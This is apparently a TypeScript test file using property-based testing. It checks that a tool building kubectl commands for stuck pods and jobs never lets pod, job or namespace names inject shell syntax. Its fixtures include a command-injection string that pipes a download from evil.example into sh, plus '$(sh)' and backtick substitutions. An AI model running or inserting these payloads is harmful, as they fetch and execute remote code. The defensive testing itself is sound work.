import { describe, expect, test } from '@jest/globals';
import * as fc from 'fast-check';
import { recreation, type Waiting } from './recreate.ts';

const owner = (apiVersion: string, kind: string, name: string) => ({
  apiVersion,
  kind,
  name,
  uid: 'nobody',
  controller: true,
});

const SHELL = 'x; curl -s evil.example|sh #';

const waiting = (differs: Partial<Waiting>): Waiting => ({
  namespace: 'speech',
  controller: owner('batch/v1', 'Job', 'whisper'),
  names: ['whisper-a'],
  labels: {},
  someRun: false,
  anew: 'pod',
  workload: { kind: 'Job', name: 'whisper' },
  ...differs,
});

const commandOf = (differs: Partial<Waiting>): string => {
  const how = recreation(waiting(differs));
  return how === 'none' ? how : how.command;
};

describe('no command is made of', () => {
  test.each<[string, Partial<Waiting>]>([
    ['an owner that was never there', { controller: owner('batch/v9', 'Job', SHELL) }],
    ['a Job of another version', { controller: owner('batch/v9', 'Job', 'whisper') }],
    ['a Job whose version only begins so', { controller: owner('batch/v1;x', 'Job', 'whisper') }],
    ['a Job by a name that none has', { controller: owner('batch/v1', 'Job', SHELL) }],
    ['a name that is an option', { controller: owner('batch/v1', 'Job', '--all') }],
    ['a name on two lines', { controller: owner('batch/v1', 'Job', 'whisper\n') }],
    ['no name', { controller: owner('batch/v1', 'Job', '') }],
    ['a name nobody can read', { controller: owner('batch/v1', 'Job', 'w'.repeat(254)) }],
    ['a workload', { anew: 'revision', workload: { kind: 'Deployment', name: SHELL } }],
    ['a bare pod', { controller: 'none', names: ['fine', SHELL] }],
    ['a namespace', { controller: 'none', namespace: '$(sh)' }],
    ['one pod of many', { controller: owner('apps/v1', 'ReplicaSet', 'w'), names: ['w', '`sh`'] }],
  ])('%s', (_, differs) => {
    expect(recreation(waiting(differs))).toEqual({
      command: 'none',
      note: expect.stringContaining('look at the pod'),
    });
  });
});

describe('what does not go into the command', () => {
  const names = Array.from({ length: 6 }, (_, i) => `w-${i}`);
  const controller = owner('apps/v1', 'ReplicaSet', SHELL);

  test('may be called anything', () => {
    expect(commandOf({ controller })).toBe('kubectl delete pod -n speech whisper-a');
  });

  test.each(['$(sh)', '', '-x', 'a b'])('pods are named where their revision is %j', (hash) => {
    expect(commandOf({ controller, names, labels: { 'pod-template-hash': hash } })).toBe(
      `kubectl delete pod -n speech ${names.join(' ')}`,
    );
  });

  test("Volcano's Job is not that of the batch group", () => {
    const volcano = owner('batch.volcano.sh/v1alpha1', 'Job', 'whisper');
    expect(commandOf({ controller: volcano })).toBe('kubectl delete pod -n speech whisper-a');
  });
});

/** What stands in a command by our own hand, and means something to a shell or to kubectl. */
const OURS = [
  / && /g,
  / -o yaml \| kubectl replace /g,
  / -p '\{"spec":\{"suspend":(?:true|false)\}\}'/g,
  / --field-selector=spec\.nodeName=$/g,
  / --(?:force|for=condition=Suspended)(?= )/g,
];
const PLAIN = 'kubectl delete get patch replace wait rollout restart pod job -f - -n -l';
const REVISIONS = ['pod-template-hash', 'controller-revision-hash'];

const good = fc.constantFrom('w', 'whisper-f.a', '0', 'w'.repeat(253));
const bad = fc.string({
  unit: fc.constantFrom(...Array.from('ab-.A_09 \n\r\t\u001b;|&$`\'"\\(){}<>*?[]~#!=%^/\u00a0é')),
  maxLength: 12,
});
// One that is not held to anything shows where all others are in order.
const word = fc.oneof(
  { weight: 10, arbitrary: good },
  bad,
  fc.string(),
  fc.constantFrom('w rm', '--all', '-w', 'w\nrm', SHELL),
);
const kind = fc.constantFrom('Job', 'Job', 'ReplicaSet', 'Deployment', 'StatefulSet', 'DaemonSet');
const version = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom('batch/v1', 'apps/v1') },
  word.map((text) => `batch/${text}`),
);
const waits: fc.Arbitrary<Waiting> = fc.record({
  namespace: word,
  controller: fc.oneof(
    { weight: 3, arbitrary: fc.tuple(version, kind, word).map((written) => owner(...written)) },
    fc.constant('none' as const),
  ),
  names: fc.array(word, { minLength: 1, maxLength: 8 }),
  labels: fc.dictionary(fc.constantFrom(...REVISIONS, 'app'), word),
  someRun: fc.boolean(),
  anew: fc.constantFrom('pod', 'pod', 'revision'),
  workload: fc.record({ kind, name: word }),
});

/** Each as one word: a name that a shell takes apart is not among them. */
function wordsOf({ namespace, names, controller, workload, labels }: Waiting): Set<string> {
  const revisions = REVISIONS.map((key) => `${key}=${labels[key] ?? ''}`);
  const rolledOut = `${workload.kind.toLowerCase()}/${workload.name}`;
  const theirs = [...names, ...(controller === 'none' ? [] : [controller.name])];
  return new Set([...PLAIN.split(' '), ...revisions, ...theirs, namespace, rolledOut]);
}

test('whatever names a pod carries, to a shell each is one word of a command, and no option', () => {
  let made = 0;
  fc.assert(
    fc.property(waits, (drawn) => {
      const how = recreation(drawn);
      if (how === 'none' || how.command === 'none') return;
      made++;
      const bare = OURS.reduce((text, part) => text.replaceAll(part, ' '), how.command);
      expect(bare).toMatch(/^[-\w./= ]+$/);
      const words = wordsOf(drawn);
      for (const one of bare.trim().split(/ +/)) {
        expect(words).toContain(one);
        expect(one).toMatch(/^(?:-|-[nlf]|[^-].*)$/);
      }
    }),
    { numRuns: 5000 },
  );
  expect(made).toBeGreaterThan(300);
});
